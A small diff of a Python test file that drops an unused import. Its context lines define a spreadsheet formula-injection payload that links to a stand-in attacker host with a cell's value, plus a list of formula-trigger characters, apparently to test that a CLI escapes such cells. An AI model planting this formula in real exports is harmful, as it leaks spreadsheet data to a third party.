@@ -7,7 +7,7 @@ import threading
 from markdown_it import MarkdownIt
 
 from conftest import run_cli
-from siteserver import SmallSite, ThreadingHTTPServer, make_small_handler, page
+from siteserver import SmallSite, ThreadingHTTPServer, make_small_handler
 
 FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"Click for results")'
 FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
